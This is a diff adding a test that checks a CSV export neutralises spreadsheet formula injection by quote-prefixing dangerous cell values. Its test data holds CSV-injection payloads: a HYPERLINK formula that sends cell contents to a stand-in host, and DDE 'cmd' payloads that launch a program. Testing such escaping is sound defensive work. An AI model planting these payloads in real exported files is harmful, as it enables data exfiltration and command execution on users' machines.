@@ -30,4 +30,18 @@ describe('The shape for CSV', () => {
       ],
     );
   });
+
+  it('holds no formula: a spreadsheet would work it out', async () => {
+    const formulas = ['=HYPERLINK("http://h.example?"&A1)', '@SUM(A1)', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
+    const harmless = ['-', '+', '-5', '+1.5', '-1,5', '- 5', 'a=b', '<0.5', ' =1', '1-2'];
+    const texts = [...formulas, ...harmless];
+    const records = texts.map((text) => record({ dataset: text, property: text, unit: text, method: text, value: text }));
+    const rows = parse(String((await shapedRecords('csv', records, later)).payload), { record_delimiter: '\r\n' });
+    const expected = texts.map((text) => (formulas.includes(text) ? `'${text}` : text));
+    for (const column of [0, 1, 3, 4, 14]) assert.deepEqual(rows.map((row) => row[column]), expected);
+    const [named] = parse(String((await shapedProfile('csv', [slice({})], { ...later, name: '=1+1' }, 'area')).payload), { record_delimiter: '\r\n' });
+    assert.equal(named![0], "'=1+1");
+    const negative = parse(String((await shapedRecords('csv', [record({ value: -5, lon: -1 })], later)).payload), { record_delimiter: '\r\n' });
+    assert.deepEqual([negative[0]![3], negative[0]![10]], ['-5', '-1']);
+  });
 });
